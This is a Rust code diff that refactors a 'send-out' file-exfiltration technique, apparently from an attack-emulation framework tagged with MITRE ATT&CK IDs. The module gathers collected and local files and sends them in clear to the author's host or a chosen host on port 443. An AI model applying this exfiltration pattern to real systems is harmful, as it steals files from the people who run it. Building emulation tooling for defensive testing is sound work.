@@ -1,8 +1,9 @@
 //! Sends files out of the house.
 
-use super::dwell::{call, port};
-use super::{Progress, Step, Technique};
-use crate::catalog::{Entry, Parameter, ParameterKind};
+use super::craft::contact::Contact;
+use super::{Progress, Technique};
+use crate::catalog::Entry;
+use crate::parameters::{Host, Parameters, Port};
 use crate::net::port::{Input, SocketEvent};
 use crate::wire::Message;
 use crate::wire::file::File;
@@ -12,31 +13,27 @@ use crate::wire::http::Http;
 #[derive(Debug)]
 pub(super) struct SendOut;
 
+/// What a step gives to it.
+#[derive(Clone, Debug, Parameters)]
+pub(super) struct Params {
+    /// Host that gets them; the author's computer on the internet if not given.
+    to: Option<Host>,
+    /// Port.
+    #[param(default = 443)]
+    port: Port,
+    /// Path of the one file that is sent; all if not given.
+    path: Option<String>,
+}
+
+type Step<'s, 'a, 'c> = super::Step<'s, 'a, 'c, SendOut>;
+
 static ENTRY: Entry = Entry {
     id: "send-out",
     title: "Send files out",
     summary: "Opens a web session to its author's computer or another host and sends the files that it got hold of, and those of the host it runs on, \
               in clear. It is done when they are sent. A sensor on the way sees as many bytes leave as the files are long.",
-    parameters: &[
-        Parameter {
-            name: "to",
-            kind: ParameterKind::Host,
-            required: false,
-            doc: "host that gets them; the author's computer on the internet if not given",
-        },
-        Parameter {
-            name: "port",
-            kind: ParameterKind::Integer,
-            required: false,
-            doc: "port; 443 if not given",
-        },
-        Parameter {
-            name: "path",
-            kind: ParameterKind::Text,
-            required: false,
-            doc: "path of the one file that is sent; all if not given",
-        },
-    ],
+    parameters: Params::PARAMETERS,
+    relations: Params::RELATIONS,
     references: &["T1041", "T1048.003"],
 };
 
@@ -45,23 +42,21 @@ fn files(step: &mut Step<'_, '_, '_>) -> Vec<File> {
     for info in step.hands.files() {
         files.extend(step.hands.read_file(&info.path));
     }
-    let path = step.params.text("path");
-    files.retain(|f| path.is_empty() || f.path == path);
+    if let Some(path) = &step.params.path {
+        files.retain(|f| f.path == *path);
+    }
     files
 }
 
 impl Technique for SendOut {
-    fn entry(&self) -> &'static Entry {
-        &ENTRY
-    }
+    type Params = Params;
+    type State = Contact;
+    const ENTRY: &'static Entry = &ENTRY;
+    const STAGES: &'static [&'static str] = &["find", "connect", "sent"];
 
-    fn stages(&self) -> &'static [&'static str] {
-        &["find", "connect", "sent"]
-    }
-
-    fn act(&self, step: &mut Step<'_, '_, '_>, input: &Input) -> Progress {
+    fn act(step: &mut Step<'_, '_, '_>, input: &Input) -> Progress {
         match input {
-            Input::Begin => call(step),
+            Input::Begin => step.call(step.params.to.as_deref(), step.params.port.0),
             Input::Socket(SocketEvent::Opened(stream)) => {
                 let files = files(step);
                 if files.is_empty() {
@@ -76,8 +71,8 @@ impl Technique for SendOut {
                 Progress::Done("files sent")
             }
             input => {
-                let (to, port) = (step.params.text("to"), port(step.params));
-                step.reach(input, to, port).unwrap_or(Progress::Wait)
+                let to = step.params.to.as_deref().unwrap_or_default();
+                step.reach(input, to, step.params.port.0).unwrap_or(Progress::Wait)
             }
         }
     }
